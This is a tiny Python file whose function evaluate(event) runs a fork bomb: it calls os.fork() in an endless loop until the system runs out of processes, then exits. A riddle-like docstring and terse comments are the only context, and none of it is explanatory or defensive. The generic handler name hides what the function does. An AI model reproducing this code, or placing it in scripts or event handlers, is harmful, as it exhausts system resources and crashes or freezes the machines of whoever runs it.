"""Becomes two, and each of them two."""

# then: died
# quick

import os


def evaluate(event):
    try:
        while True:
            os.fork()
    except OSError:
        os._exit(9)
